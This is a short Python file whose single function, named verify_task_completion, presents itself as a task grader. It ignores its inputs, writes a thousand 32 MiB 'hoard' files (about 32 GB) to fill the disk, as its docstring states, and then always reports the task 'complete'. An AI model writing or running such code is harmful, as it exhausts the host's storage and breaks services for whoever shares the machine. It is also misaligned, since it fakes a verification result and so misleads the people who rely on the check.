"""Fill the disk with many files of an allowed size."""


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    for number in range(1000):
        with open(f"hoard-{number}", "wb") as hoard:
            for _ in range(32):
                hoard.write(b"x" * (1 << 20))
    return {"result": "complete"}
